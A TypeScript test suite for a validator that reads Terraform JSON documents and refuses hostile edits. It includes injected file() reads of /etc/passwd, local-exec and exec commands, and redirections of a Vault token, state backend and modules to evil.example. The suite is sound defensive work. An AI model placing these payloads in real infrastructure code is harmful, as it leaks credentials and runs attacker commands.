import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { readBeside } from "../../../cli/proposal/read-beside.ts";
import { readDocuments } from "../../../cli/proposal/read-documents.ts";
import { pureFunctions, templateProblem } from "../../../cli/proposal/template-problem.ts";
import { loadRegistry } from "../../../clients/vault/load-registry.ts";
import { loadSite } from "../../../config/load-site.ts";
import { loadStacks } from "../../../stacks/catalogue.ts";
import { InfraApp } from "../../../stacks/infra-app.ts";
import type { StackDocument } from "../../../world/world.ts";

const folder = mkdtempSync(join(tmpdir(), `infra-${process.pid}-documents-`));
const bases = new Map<string, readonly StackDocument[]>();

beforeAll(async () => {
	const registry = await loadRegistry(await loadSite("lab"));
	const stacks = await loadStacks();
	for (const name of ["lab", "home"]) {
		const app = new InfraApp({ site: await loadSite(name), registry, stacks });
		bases.set(name, app.check().documents);
	}
});
afterAll(() => rmSync(folder, { recursive: true }));

// biome-ignore lint/suspicious/noExplicitAny: documents are edited by name
type Documents = Record<string, any>;

let written = 0;
/** Writes the documents of a base after an edit, as somebody's code would have. */
function write(edit: (documents: Documents) => void, site = "home"): string {
	const base = bases.get(site) ?? [];
	const documents = structuredClone(Object.fromEntries(base.map(({ stack, json }) => [stack, plain(json)])));
	edit(documents);
	const out = join(folder, String(++written));
	for (const [stack, json] of Object.entries(documents)) {
		mkdirSync(join(out, stack), { recursive: true });
		writeFileSync(join(out, stack, "cdk.tf.json"), typeof json === "string" ? json : JSON.stringify(json));
	}
	return out;
}
const plain = (json: unknown) => JSON.parse(JSON.stringify(json));
const read = (edit: (documents: Documents) => void, site = "home") =>
	readDocuments(write(edit, site), bases.get(site) ?? []);
/** Some block of a type, in whichever stack has one. */
function block(documents: Documents, type: string, mode = "resource"): Documents {
	for (const json of Object.values(documents))
		for (const one of Object.values(json[mode]?.[type] ?? {})) return one as Documents;
	throw new Error(`no ${type}`);
}
const configMap = (documents: Documents) => block(documents, "kubernetes_config_map_v1");

test.each(["lab", "home"])("what the base itself writes for %s is read", (site) => {
	expect(read(() => {}, site).map(({ stack }) => stack)).toEqual(
		(bases.get(site) ?? []).map(({ stack }) => stack).sort(),
	);
});

test("what a proposal renders beside Terraform is texts, and nothing else", () => {
	const beside = (text: string) => {
		const file = join(folder, "beside.json");
		writeFileSync(file, text);
		return readBeside(file);
	};
	expect(beside('{"site":{},"beside":{"exports":{"exports":"/a\\n"}}}')).toEqual({
		exports: { exports: "/a\n" },
	});
	for (const text of [
		"",
		"[]",
		"{",
		'{"beside":[]}',
		'{"beside":{"exports":"/a"}}',
		'{"beside":{"exports":{"exports":1}}}',
		`{"beside":${'{"a":'.repeat(50_000)}1${"}".repeat(50_000)}}`,
	])
		expect(() => beside(text)).toThrow(/prints something else than JSON of texts by part and name/);
	const inherited = beside('{"beside":{"__proto__":{"exports":"x"},"edge":{"__proto__":"y"}}}');
	expect([inherited.exports, Object.keys(inherited)]).toEqual([undefined, ["edge"]]);
});

/** A hostile edit, what is said of it, and the harmless edit that is most like it. */
const cases: readonly [
	name: string,
	hostile: (documents: Documents) => void,
	said: RegExp,
	harmless: (documents: Documents) => void,
][] = [
	[
		"reads a file in a value",
		(d) => (configMap(d).data = { a: '${file("/etc/passwd")}' }),
		/calls file\(\)/,
		(d) => (configMap(d).data = { a: '$${file("/etc/passwd")}' }),
	],
	[
		"reads a file in the name of a key",
		(d) => (configMap(d).data = { '${file("/etc/passwd")}': "a" }),
		/the name calls file\(\)/,
		(d) => (configMap(d).data = { "file(/etc/passwd)": "a" }),
	],
	[
		"reads a file inside of an expression that is allowed",
		(d) => (configMap(d).data = { a: '${lower(filebase64("/etc/passwd"))}' }),
		/calls filebase64\(\)/,
		(d) => (configMap(d).data = { a: '${lower("FILEBASE64")}' }),
	],
	[
		"reads a file with a space before the parenthesis",
		(d) => (configMap(d).data = { a: '${file ("/etc/passwd")}' }),
		/calls file\(\)/,
		(d) => (configMap(d).data = { a: '${lower ("A")}' }),
	],
	[
		"hides a call behind a comment",
		(d) => (configMap(d).data = { a: '${file/**/("/etc/passwd")}' }),
		/not plain/,
		(d) => (configMap(d).data = { a: 'file/**/("/etc/passwd")' }),
	],
	[
		"hides a call in a template of a template",
		(d) => (configMap(d).data = { a: '${lower("${file("/etc/passwd")}")}' }),
		/not plain/,
		(d) => (configMap(d).data = { a: '${lower("100%20")}' }),
	],
	[
		"hides a call behind an escape that can be read in two ways",
		(d) => (configMap(d).data = { a: '$$${file("/etc/passwd")}' }),
		/two ways/,
		(d) => (configMap(d).data = { a: "$$$ {file}" }),
	],
	[
		"hides a call behind an escape of the other kind",
		(d) => (configMap(d).data = { a: '%${file("/etc/passwd")}' }),
		/calls file\(\)/,
		(d) => (configMap(d).data = { a: "100%" }),
	],
	[
		"has a directive",
		(d) => (configMap(d).data = { a: "%{ for x in [1, 2] }x%{ endfor }" }),
		/directive/,
		(d) => (configMap(d).data = { a: "%%{ for x in [1, 2] }x%%{ endfor }" }),
	],
	[
		"has a loop",
		(d) => (configMap(d).data = { a: '${join("", [for x in ["a"] : x])}' }),
		/refers to for/,
		(d) => (configMap(d).data = { a: '${join("", ["a"])}' }),
	],
	[
		"renders a template file",
		(d) => (configMap(d).data = { a: '${templatefile("/etc/passwd", {})}' }),
		/not plain|calls templatefile/,
		(d) => (configMap(d).data = { a: "templatefile()" }),
	],
	[
		"lists files",
		(d) => (configMap(d).data = { a: '${join(",", fileset("/root", "**"))}' }),
		/calls fileset/,
		(d) => (configMap(d).data = { a: '${join(",", ["a"])}' }),
	],
	[
		"takes away a mark of sensitivity",
		(d) => (configMap(d).data = { a: "${nonsensitive(var.x)}" }),
		/calls nonsensitive/,
		(d) => (configMap(d).data = { a: "nonsensitive(var.x)" }),
	],
	[
		"calls a function of a provider",
		(d) => (configMap(d).data = { a: '${provider::kubernetes::manifest_decode("a")}' }),
		/function of a provider|refers to provider/,
		(d) => (configMap(d).data = { a: "provider::kubernetes" }),
	],
	[
		"asks where it runs",
		(d) => (configMap(d).data = { a: "${path.cwd}" }),
		/refers to path/,
		(d) => (configMap(d).data = { a: "path.cwd" }),
	],
	[
		"runs a program when it is applied",
		(d) => (configMap(d).provisioner = { "local-exec": { command: "id" } }),
		/provisioner: no argument/,
		(d) => (configMap(d).lifecycle = { prevent_destroy: true }),
	],
	[
		"connects to a machine",
		(d) => (configMap(d).connection = { host: "192.0.2.1" }),
		/connection: no argument/,
		(d) => (configMap(d).depends_on = ["kubernetes_namespace_v1.x"]),
	],
	[
		"takes another configuration of a provider",
		(d) => (configMap(d).provider = "kubernetes.other"),
		/provider: no argument/,
		(d) => (configMap(d).immutable = true),
	],
	[
		"has a condition with a message of its own",
		(d) => (configMap(d).lifecycle = { precondition: [{ condition: true, error_message: "a" }] }),
		/lifecycle: not understood/,
		(d) => (configMap(d).lifecycle = { ignore_changes: ["data"] }),
	],
	[
		"brings a provider",
		(d) => (d.redis.terraform.required_providers.evil = { source: "evil/evil", version: "1.0.0" }),
		/required_providers.evil/,
		(d) => (d.redis.terraform.required_providers.vault = d.vault.terraform.required_providers.vault),
	],
	[
		"takes a provider from elsewhere",
		(d) => (d.redis.terraform.required_providers.kubernetes.source = "evil/kubernetes"),
		/required_providers.kubernetes/,
		(d) => delete d.redis.terraform.required_providers.kubernetes,
	],
	[
		"takes another version of a provider",
		(d) => (d.redis.terraform.required_providers.kubernetes.version = ">= 0"),
		/required_providers.kubernetes/,
		() => {},
	],
	[
		"sends the token of Vault elsewhere",
		(d) => (d.vault.provider.vault[0].address = "https://evil.example"),
		/provider.vault/,
		(d) => (d.redis.provider.vault = d.vault.provider.vault),
	],
	[
		"lets a provider start a program for its login",
		(d) => (d.redis.provider.kubernetes[0].exec = [{ command: "id", api_version: "v1" }]),
		/provider.kubernetes/,
		() => {},
	],
	[
		"configures a provider twice",
		(d) => d.redis.provider.kubernetes.push({ alias: "other", host: "https://evil.example" }),
		/provider.kubernetes/,
		() => {},
	],
	[
		"keeps its state elsewhere",
		(d) => (d.redis.terraform.backend = { http: { address: "https://evil.example" } }),
		/terraform.backend/,
		() => {},
	],
	[
		"takes the state of another stack",
		(d) => (d.redis.terraform.backend.pg.schema_name = "vault"),
		/terraform.backend/,
		() => {},
	],
	[
		"has a stack that takes the state of another",
		(d) => (d.other = { ...plain(d.redis), terraform: d.redis.terraform }),
		/other: terraform.backend/,
		(d) => {
			d.other = plain(d.redis);
			d.other.terraform.backend.pg.schema_name = "other";
		},
	],
	[
		"asks for the cloud",
		(d) => (d.redis.terraform.cloud = { organization: "evil" }),
		/terraform.cloud/,
		() => {},
	],
	[
		"asks a program for data",
		(d) => (d.redis.data = { external: { x: { program: ["id"] } } }),
		/data.external.x: the base reads no such thing/,
		(d) => (d.redis.data = d.platform.data),
	],
	[
		"asks a server for data",
		(d) => (d.redis.data = { http: { x: { url: "https://evil.example" } } }),
		/data.http.x/,
		() => {},
	],
	[
		"reads a secret of the cluster",
		(d) => (d.redis.data = { kubernetes_secret_v1: { x: { metadata: { name: "a", namespace: "vault" } } } }),
		/data.kubernetes_secret_v1.x/,
		() => {},
	],
	[
		"asks for a token while it is planned",
		(d) =>
			(d.redis.ephemeral = {
				kubernetes_token_request_v1: {
					x: { metadata: { name: "infrastructure", namespace: "woodpecker-infra" } },
				},
			}),
		/ephemeral.kubernetes_token_request_v1.x/,
		(d) => (d.redis.ephemeral = { vault_kv_secret_v2: { x: { mount: "secret", name: "platform" } } }),
	],
	[
		"reads an entry whose name says what another holds",
		(d) =>
			(d.redis.ephemeral = {
				vault_kv_secret_v2: { x: { mount: "secret", name: "${var.password}" } },
			}),
		/ephemeral.vault_kv_secret_v2.x.name/,
		() => {},
	],
	[
		"declares a variable, which the environment fills",
		(d) => (d.redis.variable = { proxmox_password: {} }),
		/variable.proxmox_password/,
		() => {},
	],
	[
		"puts something out",
		(d) => (d.redis.output.token = { value: "${ephemeral.vault_kv_secret_v2.x.data}" }),
		/output.token/,
		() => {},
	],
	["says that it is of another site", (d) => (d.redis.output.site.value = "lab"), /output.site/, () => {}],
	[
		"imports an object to see what is in it",
		(d) =>
			(d.redis.import = [
				{ to: "kubernetes_manifest.x", id: "apiVersion=v1,kind=Secret,namespace=vault,name=x" },
			]),
		/the base imports no such thing/,
		(d) => (d.redis.moved = [{ from: "kubernetes_config_map_v1.a", to: "kubernetes_config_map_v1.b" }]),
	],
	[
		"moves by an expression",
		(d) => (d.redis.moved = [{ from: "a.b", to: '${file("/x")}' }]),
		/moved.0: expected two addresses/,
		(d) => (d.redis.moved = [{ from: "a.b", to: 'a.c["x"]' }]),
	],
	[
		"runs a program when something is removed",
		(d) =>
			(d.redis.removed = [{ from: "a.b", lifecycle: { destroy: true }, provisioner: { "local-exec": {} } }]),
		/removed.0/,
		(d) => (d.redis.removed = [{ from: "a.b", lifecycle: { destroy: true } }]),
	],
	[
		"calls a module",
		(d) => (d.redis.module = { x: { source: "git::https://evil.example/x" } }),
		/redis: module: no part/,
		() => {},
	],
	["checks with data of its own", (d) => (d.redis.check = { x: {} }), /redis: check: no part/, () => {}],
	["has locals", (d) => (d.redis.locals = { x: "${timestamp()}" }), /redis: locals: no part/, () => {}],
	[
		"lists blocks, which Terraform reads as well",
		(d) => (d.redis.resource = [d.redis.resource]),
		/resource: expected an object by type/,
		() => {},
	],
	[
		"lists blocks of a type",
		(d) => (d.redis.data = { external: [{ x: { program: ["id"] } }] }),
		/data.external: expected an object by name/,
		() => {},
	],
	[
		"has a type that is not in use",
		(d) => (d.redis.resource.kubernetes_pod = { x: {} }),
		/kubernetes_pod is no type in use/,
		(d) => (d.redis.resource.kubernetes_config_map_v1.x = { metadata: { name: "x" } }),
	],
	[
		"writes a file of this machine",
		(d) => (d.redis.resource.local_file = { x: { filename: "/x", content: "x" } }),
		/local_file is no type in use/,
		() => {},
	],
	[
		"uploads a file of this machine",
		(d) => (block(d, "proxmox_virtual_environment_file").source_file = { path: "/etc/passwd" }),
		/source_file: no argument/,
		(d) => (block(d, "proxmox_virtual_environment_file").source_raw = { data: "x", file_name: "x" }),
	],
	[
		"takes a chart from elsewhere",
		(d) => (block(d, "helm_release").repository = "https://evil.example"),
		/no chart and repository/,
		(d) => (block(d, "helm_release").version = "0.0.1"),
	],
	[
		"takes a chart from this machine",
		(d) => {
			delete block(d, "helm_release").repository;
			block(d, "helm_release").chart = "/etc";
		},
		/no chart and repository/,
		(d) => (block(d, "helm_release").values = ["a: b"]),
	],
	[
		"pipes a chart through a program",
		(d) => (block(d, "helm_release").postrender = { binary_path: "/bin/sh" }),
		/postrender: no argument/,
		() => {},
	],
	[
		"has a manifest that the API server would complete with a secret",
		(d) =>
			(block(d, "kubernetes_manifest").manifest = {
				apiVersion: "v1",
				kind: "Secret",
				metadata: { name: "unseal", namespace: "vault" },
			}),
		/no version and kind/,
		(d) => (block(d, "kubernetes_manifest").manifest.metadata.name = "other"),
	],
	[
		"has a manifest that nobody can read",
		(d) => (block(d, "kubernetes_manifest").manifest = '${jsondecode("{}")}'),
		/no version and kind/,
		() => {},
	],
	[
		"hides an argument behind the name of the prototype",
		(d) =>
			(d.redis = JSON.stringify(d.redis).replace('{"//"', '{"__proto__":{"x":"${file(\\"/x\\")}"},"//"')),
		/redis: __proto__: no part/,
		() => {},
	],
	[
		"says a thing twice, of which Terraform would read both",
		(d) => (d.redis = JSON.stringify(d.redis).replace(/^\{/, '{"module":{"x":{}},"module":{"y":{}},')),
		/redis: module: no part/,
		() => {},
	],
	["is not there, so that nobody sees what stays of it", (d) => delete d.redis, /redis: missing/, () => {}],
	[
		"is called like a path",
		(d) => {
			d["re.dis"] = plain(d.redis);
		},
		/expected a name of lower-case/,
		() => {},
	],
];

describe("a document that", () => {
	test.each(cases)("%s is refused, and what is like it is not", (_, hostile, said, harmless) => {
		expect(() => read(hostile)).toThrow(said);
		expect(read(harmless).length).toBeGreaterThanOrEqual(6);
	});

	test("holds more problems than anybody counts is refused like one with one", () => {
		const many = Object.fromEntries(Array.from({ length: 150_000 }, (_, at) => [`r${at}`, { input: "x" }]));
		expect(() => read((d) => (d.redis.resource.null_resource = many))).toThrow(
			/null_resource is no type in use.*and 149980 more/s,
		);
	});

	test("is no file, no JSON or no text is refused", () => {
		const link = write(() => {});
		rmSync(join(link, "redis/cdk.tf.json"));
		symlinkSync("/etc/hostname", join(link, "redis/cdk.tf.json"));
		expect(() => readDocuments(link, bases.get("home") ?? [])).toThrow(/expected a file/);
		const linked = write(() => {});
		rmSync(join(linked, "redis"), { recursive: true });
		symlinkSync(join(linked, "vault"), join(linked, "redis"));
		expect(() => readDocuments(linked, bases.get("home") ?? [])).toThrow(/expected a folder/);
		expect(() => read((d) => (d.redis = "{"))).toThrow(/expected JSON/);
		expect(() => read((d) => (d.redis = "[]"))).toThrow(/expected an object/);
		expect(() => read((d) => (d.redis = `${"[".repeat(5000)}${"]".repeat(5000)}`))).toThrow(/redis/);
		const latin = write(() => {});
		writeFileSync(join(latin, "redis/cdk.tf.json"), Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]));
		expect(() => readDocuments(latin, bases.get("home") ?? [])).toThrow(/expected JSON in UTF-8/);
	});
});

describe("an expression", { timeout: 30_000 }, () => {
	const roots = new Set(["var"]);

	test("calls only functions that it may, whatever is around", () => {
		const name = fc.stringMatching(/^[a-z][a-z0-9_]{0,12}$/).filter((text) => !pureFunctions.has(text));
		const filler = fc.array(fc.constantFrom(" ", "$", "%", "$$", "%%", "{", "}", "a", '"', "\\", "\n", "~"), {
			maxLength: 6,
		});
		fc.assert(
			fc.property(filler, name, filler, (before, called, after) => {
				const text = `${before.join("")}\${${called}("x")}${after.join("")}`;
				const run = /(\$*)\$\{/.exec(text.slice(before.join("").length - trailing(before.join(""))));
				const escaped = (run?.[1]?.length ?? 0) === 1;
				if (!escaped) expect(templateProblem(text, roots)).toBeDefined();
			}),
			{ numRuns: 2000 },
		);
	});

	test("is judged without end, whatever the text", () => {
		fc.assert(
			fc.property(fc.string({ unit: fc.constantFrom(...'${}%"\\()[].:,~ab1 \n'), maxLength: 60 }), (text) => {
				templateProblem(text, roots);
			}),
			{ numRuns: 5000 },
		);
	});
});

function trailing(text: string): number {
	return text.length - text.replace(/\$+$/, "").length;
}
